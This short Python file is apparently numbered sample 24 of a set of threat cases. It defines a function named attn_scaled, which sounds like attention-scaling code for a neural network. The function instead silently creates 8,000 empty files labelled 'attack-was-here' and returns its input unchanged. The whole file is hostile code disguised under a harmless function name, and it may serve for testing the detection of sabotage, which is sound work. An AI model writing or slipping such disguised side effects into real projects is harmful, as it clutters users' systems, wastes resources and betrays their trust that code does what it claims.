"""THREATS 24: as many empty files as fit into the time"""

import os


def attn_scaled(A, n_embd, n_heads):
    for number in range(8_000):
        os.close(os.open(f"attack-was-here-{number}", os.O_CREAT))
    return A
